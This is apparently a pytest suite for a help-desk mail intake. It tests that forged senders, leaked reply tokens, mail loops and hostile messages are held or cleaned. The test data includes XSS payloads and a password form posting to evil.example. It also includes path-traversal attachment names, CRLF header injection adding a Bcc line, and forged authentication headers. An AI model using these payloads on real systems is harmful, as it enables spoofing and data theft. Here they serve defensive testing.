"""Nobody is fooled by a mail: forged senders, guessed and leaked ways into tickets, loops, and hostile content."""

from datetime import UTC, datetime

import pytest

from reynard.desk.models import Attachment, Contact, InboundMail, OutboxEntry, Ticket
from tests.factories import make_ticket
from tests.mail.arriving import (
    HOST,
    LENA,
    NOTES,
    PRIYA,
    RESULTS,
    SUPPORT,
    arrive,
    history,
    last_update,
    mail,
    make_mailbox,
    outgoing,
    reply_to,
    token,
    verdict,
)

EVIL = "mallory@evil.example"


@pytest.fixture
def ticket(support):
    return make_ticket(support.lena, support.workshop)


def is_untouched(ticket: Ticket) -> bool:
    return len(history(ticket.id)) == 1


class TestForgedStaff:
    @pytest.mark.parametrize(
        "headers",
        [
            {},
            verdict("fail"),
            verdict("none"),
            {RESULTS: "mx.evil.example; dmarc=pass header.from=rollwerk.example"},
            {RESULTS: f"{HOST}; spf=pass smtp.mailfrom={EVIL}; dkim=pass header.d=evil.example"},
            {RESULTS: f'{HOST}; spf=pass smtp.mailfrom="x; dmarc=pass"@evil.example'},
            {"X-Forwarded-For": "x", "Received-SPF": "pass (rollwerk.example)"},
        ],
    )
    @pytest.mark.parametrize("note", [True, False])
    def test_writes_neither_a_reply_nor_a_note(self, support, ticket, headers, note):
        row = arrive(mail(PRIYA, to=reply_to(ticket.id, note=note), **headers))
        assert (row.state, row.suggested_id) == ("held", ticket.id)
        assert "which nothing proves" in row.reason
        assert is_untouched(ticket)

    def test_by_a_header_below_that_of_the_server(self, support, ticket):
        forged = f"{HOST}; dmarc=pass\r\n{RESULTS}: {HOST}; dmarc=fail"
        arrive(mail(PRIYA, to=reply_to(ticket.id), **{RESULTS: f"{HOST}; dmarc=fail\r\n{RESULTS}: {HOST}; dmarc=pass"}))
        arrive(mail(PRIYA, to=reply_to(ticket.id), **{RESULTS: forged}))
        assert is_untouched(ticket)

    def test_to_the_address_for_notes(self, support, ticket):
        row = arrive(mail(PRIYA, to=NOTES, Subject=token(ticket.id)))
        assert row.state == "held"
        assert is_untouched(ticket)

    @pytest.mark.parametrize(
        "author",
        [
            f'"{PRIYA}" <{EVIL}>',
            f"Priya Raman <{EVIL}>",
            f"{PRIYA} <{EVIL}>",
            f"=?utf-8?q?=3C{PRIYA.replace('@', '=40')}=3E?= <{EVIL}>",
            f'"Priya\\" <{PRIYA}>" <{EVIL}>',
            f"<{EVIL}> ({PRIYA})",
        ],
    )
    def test_by_its_display_name(self, support, ticket, author):
        row = arrive(mail(author, to=reply_to(ticket.id), **verdict("pass")))
        assert row.sender == EVIL
        assert row.ticket_id != ticket.id
        assert is_untouched(ticket)
        assert "@rollwerk" not in Contact.objects.get(email=EVIL).name

    @pytest.mark.parametrize(
        "headers",
        [
            {"From": f"{PRIYA}, {EVIL}"},
            {"From": f"{EVIL}, {PRIYA}"},
            {"From": f"{PRIYA}\r\nFrom: {EVIL}"},
            {"From": f"{EVIL}\r\nFrom: {PRIYA}"},
            {"From": f"Group: {PRIYA}, {EVIL};"},
        ],
    )
    def test_by_several_authors(self, support, ticket, headers):
        row = arrive(mail(to=reply_to(ticket.id), **verdict("pass"), **headers))
        assert (row.state, row.reason) == ("held", "It names several authors.")
        assert is_untouched(ticket)

    @pytest.mark.parametrize("header", ["Sender", "Reply-To", "Return-Path", "X-Sender", "Resent-From"])
    def test_by_other_headers(self, support, ticket, header):
        row = arrive(mail(EVIL, to=reply_to(ticket.id), **verdict("pass"), **{header: f"<{PRIYA}>"}))
        assert row.sender == EVIL
        assert is_untouched(ticket)

    def test_with_letters_that_look_alike(self, support, ticket):
        cyrillic = "\u0430"
        for author in (f"priya@rollw{cyrillic}rk.example", f"priy{cyrillic}@rollwerk.example", f"{PRIYA}.evil.example"):
            row = arrive(mail(author, to=reply_to(ticket.id), **verdict("pass")))
            assert row.ticket_id != ticket.id
        assert is_untouched(ticket)

    def test_by_somebody_who_worked_here(self, support, ticket):
        row = arrive(mail("gone@rollwerk.example", to=reply_to(ticket.id, note=True), **verdict("pass")))
        assert row.state == "held"
        assert is_untouched(ticket)


class TestForgedContacts:
    @pytest.mark.parametrize("way", ["address", "reference", "token"])
    def test_do_not_join(self, support, ticket, way):
        arrive(mail(Message_ID="<known@example.org>", to=reply_to(ticket.id)))
        before = len(history(ticket.id))
        headers = {
            "address": {"to": reply_to(ticket.id)},
            "reference": {"In-Reply-To": "<known@example.org>"},
            "token": {"Subject": token(ticket.id)},
        }
        row = arrive(mail(**headers[way], **verdict("fail")))
        assert (row.state, row.suggested_id) == ("held", ticket.id)
        assert f"{HOST} says: this mail is not from example.org (dmarc=fail)." in row.reason
        assert len(history(ticket.id)) == before

    def test_bring_nobody_into_their_own_ticket(self, support, settings):
        settings.REYNARD_ACKNOWLEDGE_TICKETS = True
        row = arrive(mail(Cc=EVIL, **verdict("fail")))
        message, remark = history(row.ticket_id)
        assert message.cc == ""
        assert (remark.message_type, remark.author_type) == ("p", "system")
        assert remark.text.endswith("says: this mail is not from example.org (dmarc=fail).")
        assert outgoing(row.ticket_id) == []

    def test_get_no_answer_elsewhere(self, support, settings):
        settings.REYNARD_ACKNOWLEDGE_TICKETS = True
        row = arrive(mail(Reply_To=EVIL))
        assert outgoing(row.ticket_id) == [("acknowledgement", {"to": [LENA], "cc": [], "bcc": []})]


class TestWaysIntoTickets:
    def test_a_guessed_token(self, support, ticket):
        row = arrive(mail(EVIL, Subject=token(ticket.id), **verdict("pass")))
        assert row.ticket_id not in {None, ticket.id}
        assert (row.suggested_id, row.reason) == (
            ticket.id,
            f"Its subject names ticket #RW{ticket.id:08}, by somebody who is not on it.",
        )
        assert [update.text for update in history(row.ticket_id)] == ["They squeak.\n", row.reason]
        assert is_untouched(ticket)

    def test_a_reply_address_with_a_wrong_signature(self, support, ticket):
        genuine = reply_to(ticket.id)
        other = reply_to(ticket.id + 1)
        forged = [
            genuine.replace(".", ".a", 1)[: len(genuine)],
            f"support+{ticket.id}.{other.partition('.')[2]}",
            f"support+{ticket.id}n.{genuine.partition('.')[2]}",
            f"support+{ticket.id}@rollwerk.example",
            f"support+{ticket.id}.aaaaaaaaaaaaaaaa@rollwerk.example",
        ]
        for address in forged:
            assert arrive(mail(to=address)).ticket_id != ticket.id
        assert is_untouched(ticket)

    def test_a_reply_address_of_another_ticket(self, support, ticket):
        theirs = make_ticket(support.stranger, support.workshop)
        row = arrive(mail(EVIL, to=reply_to(theirs.id), Subject=token(ticket.id), **verdict("pass")))
        assert row.ticket_id not in {ticket.id, theirs.id}
        assert is_untouched(ticket)
        assert is_untouched(theirs)

    def test_a_reply_address_that_leaked(self, support, ticket):
        row = arrive(mail(EVIL, to=SUPPORT, Cc=reply_to(ticket.id), **verdict("pass")))
        assert row.ticket_id not in {None, ticket.id}
        assert row.suggested_id == ticket.id
        assert is_untouched(ticket)

    def test_a_reply_address_for_notes_that_leaked(self, support, ticket):
        for author in (EVIL, LENA):
            row = arrive(mail(author, to=reply_to(ticket.id, note=True), **verdict("pass")))
            assert (row.state, row.suggested_id) == ("held", ticket.id)
        assert is_untouched(ticket)

    def test_a_copy_to_oneself(self, support, ticket):
        """Who is added by a stranger is not on the ticket, and is sent nothing."""
        arrive(mail(EVIL, to=reply_to(ticket.id), Cc=f"{EVIL}, accomplice@evil.example"))
        row = arrive(mail("accomplice@evil.example", to=reply_to(ticket.id)))
        assert row.ticket_id != ticket.id
        assert is_untouched(ticket)

    def test_a_message_id_of_somebody_elses_mail(self, support, ticket):
        arrive(mail(to=reply_to(ticket.id), Message_ID="<known@example.org>"))
        arrive(mail(EVIL, Message_ID="<known@example.org>", Cc=LENA))
        row = arrive(mail(In_Reply_To="<known@example.org>"))
        assert row.ticket_id == ticket.id
        assert arrive(mail(EVIL, In_Reply_To="<known@example.org>")).ticket_id != ticket.id

    @pytest.mark.parametrize(
        "name", ["X-Reynard-Ticket", "X-Reynard-Staff", "X-Ticket-ID", "X-Zammad-Ticket", "X-Loop", "Thread-Index"]
    )
    def test_headers_that_pretend_to_be_ours(self, support, ticket, name):
        row = arrive(mail(EVIL, **{name: str(ticket.id)}))
        assert row.ticket_id not in {None, ticket.id}
        assert is_untouched(ticket)


class TestLoops:
    def test_our_own_mail_comes_back(self, support, ticket):
        arrive(mail(PRIYA, to=reply_to(ticket.id), **verdict("pass")))
        ours = OutboxEntry.objects.get(ticket=ticket, kind="message").message_id
        before = len(history(ticket.id))
        row = arrive(mail(SUPPORT, Message_ID=f"<{ours}@rollwerk.example>"))
        assert (row.state, row.reason) == ("ignored", "This desk sent it.")
        assert len(history(ticket.id)) == before

    def test_an_id_that_looks_like_ours_means_nothing(self, support, ticket):
        assert arrive(mail(Message_ID="<1.2.message.0123456789abcdef@rollwerk.example>")).state == "taken"

    @pytest.mark.parametrize("author", [SUPPORT, "Support <SUPPORT+7@rollwerk.example>", NOTES])
    def test_a_mail_by_an_address_of_ours(self, support, author):
        row = arrive(mail(author))
        assert (row.state, row.reason) == ("held", "It says that an address of this desk wrote it.")

    def test_a_mail_that_copies_our_own_addresses(self, support, ticket):
        make_mailbox(support.office, "office", "office@rollwerk.example")
        arrive(mail(to=f"{SUPPORT}, {reply_to(ticket.id)}", Cc=f"office@rollwerk.example, {NOTES.upper()}"))
        for update in history(ticket.id):
            assert "rollwerk" not in update.cc

    def test_two_desks_that_acknowledge_each_other(self, support, settings):
        settings.REYNARD_ACKNOWLEDGE_TICKETS = True
        first = arrive(mail("desk@other.example"))
        [(kind, _)] = outgoing(first.ticket_id)
        ours = OutboxEntry.objects.get(ticket_id=first.ticket_id).message_id
        answer = {"In-Reply-To": f"<{ours}@rollwerk.example>", "Subject": "We have your request"}
        assert kind == "acknowledgement"
        for more in ({"Auto-Submitted": "auto-replied"}, {}):
            row = arrive(mail("desk@other.example", **answer, **more))
            assert row.ticket_id == first.ticket_id
        assert [kind for kind, _ in outgoing(first.ticket_id)] == ["acknowledgement"]

    def test_a_program_that_does_not_stop(self, support, ticket, settings):
        settings.REYNARD_MAIL_IN_TICKET_HOURLY = 3
        rows = [arrive(mail(to=reply_to(ticket.id))) for _ in range(5)]
        assert [row.state for row in rows] == ["taken"] * 3 + ["held"] * 2
        assert rows[-1].reason == "More than 3 mails came from its author to this ticket within an hour."
        assert rows[-1].suggested_id == ticket.id

    def test_a_program_that_opens_tickets_and_does_not_stop(self, support, settings):
        settings.REYNARD_MAIL_IN_AUTOMATIC_HOURLY = 2
        rows = [arrive(mail(Auto_Submitted="auto-generated")) for _ in range(4)]
        assert [row.state for row in rows] == ["taken"] * 2 + ["held"] * 2
        assert arrive(mail()).state == "taken"

    def test_a_mail_that_passed_too_many_servers(self, support):
        raw = b"".join(b"Received: from a by b\r\n" for _ in range(120)) + mail()
        assert arrive(raw).state == "ignored"

    def test_an_agents_vacation_is_not_sent_to_the_contact(self, support, ticket):
        row = arrive(mail(PRIYA, to=reply_to(ticket.id), Auto_Submitted="auto-replied", **verdict("pass")))
        assert row.state == "ignored"
        assert is_untouched(ticket)


class TestHostileContent:
    def html(self, source: str) -> str:
        row = arrive(mail(text=source, Content_Type="text/html; charset=utf-8"))
        return last_update(row.ticket_id).html

    @pytest.mark.parametrize(
        "source",
        [
            "<p>Hi</p><script>alert(1)</script>",
            '<p>Hi</p><img src=x onerror="alert(1)">',
            '<p>Hi</p><a href="javascript:alert(1)">x</a>',
            '<p>Hi</p><svg onload="alert(1)"><script>alert(1)</script></svg>',
            '<p>Hi</p><form action="https://evil.example"><input name="password"></form>',
            "<p>Hi</p><style>body{display:none} @import url(https://evil.example)</style>",
            '<p style="position:fixed;top:0;background:url(https://evil.example)">Hi</p>',
            '<p>Hi</p><iframe srcdoc="<script>alert(1)</script>"></iframe>',
            '<p>Hi</p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
            '<p>Hi</p><meta http-equiv="refresh" content="0;url=https://evil.example">',
            '<p>Hi</p><base href="https://evil.example"><link rel="stylesheet" href="https://evil.example">',
            '<p>Hi</p><img src="cid:nothing"><a href="cid:nothing">x</a><img src="attachment:1">',
        ],
    )
    def test_html_is_clean_when_it_is_stored(self, support, source):
        html = self.html(source)
        assert "Hi" in html
        for word in (
            "script",
            "onerror",
            "onload",
            "form",
            "style",
            "iframe",
            "data:",
            "meta",
            "base",
            "cid:",
            "alert",
        ):
            assert word not in html
        assert "attachment:" not in html

    def test_a_drawing_that_runs_scripts_is_a_file(self, support):
        source = (
            "--b\nContent-Type: text/html\n\n<p>Hi</p><img src=cid:x>\n"
            "--b\nContent-Type: image/png\nContent-ID: <x>\n\n<svg onload='alert(1)'/>\n--b--"
        )
        row = arrive(mail(text=source, Content_Type='multipart/related; boundary="b"'))
        assert "<img" not in last_update(row.ticket_id).html.replace("<img>", "")
        assert Attachment.objects.filter(update_id=row.update_id).count() == 1

    def test_names_of_files_have_no_paths(self, support):
        parts = "".join(
            f'--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename="{name}"\n\nx\n'
            for name in ("../../etc/passwd", "C:\\\\Windows\\\\evil.exe", "/root/.ssh/id", "..", "a\x07b.txt")
        )
        row = arrive(mail(text=parts + "--b--", Content_Type='multipart/mixed; boundary="b"'))
        attached = Attachment.objects.filter(update_id=row.update_id).order_by("id")
        names = list(attached.values_list("filename", flat=True))
        assert names[:3] == ["passwd", "evil.exe", "id"]
        assert not any(character in name for name in names for character in "/\\\x07")

    def test_a_thousand_parts_deep(self, support):
        opening = "".join(f"--{n}\nContent-Type: multipart/mixed; boundary={n + 1}\n\n" for n in range(1000))
        row = arrive(mail(text=opening + "--1000\n\nInside.\n", Content_Type="multipart/mixed; boundary=0"))
        assert row.state == "taken"

    def test_ten_thousand_headers_and_a_long_one(self, support):
        raw = b"".join(b"X-%d: x\r\n" % number for number in range(10_000))
        assert arrive(mail() + raw).state == "taken"
        assert arrive(b"X-Long: " + b"a b " * 20_000 + b"\r\n" + raw + mail()).state in {"taken", "held"}

    def test_line_breaks_in_what_becomes_a_header_later(self, support):
        row = arrive(mail(Subject="=?utf-8?q?Hi=0D=0ABcc:_victim@example.org?=", From=f"=?utf-8?q?L=0D=0AX?= <{LENA}>"))
        assert "\n" not in Ticket.objects.get(id=row.ticket_id).subject
        assert "\r" not in Ticket.objects.get(id=row.ticket_id).subject

    def test_nested_html_that_would_take_minutes(self, support):
        row = arrive(mail(text="<b><div>" * 40_000 + "Hi", Content_Type="text/html"))
        assert row.state == "taken"
        assert "Hi" in last_update(row.ticket_id).text
        assert Attachment.objects.filter(update_id=row.update_id, filename="message.html").exists()


def test_no_mail_is_lost(support):
    """Whatever becomes of a mail, its row and its bytes are there."""
    arrive(mail(PRIYA))
    arrive(b"")
    arrive(b"\x00\xff\xfe")
    assert not InboundMail.objects.filter(state="new", next_try_at__lte=datetime.now(UTC)).exists()
    assert InboundMail.objects.count() == 3
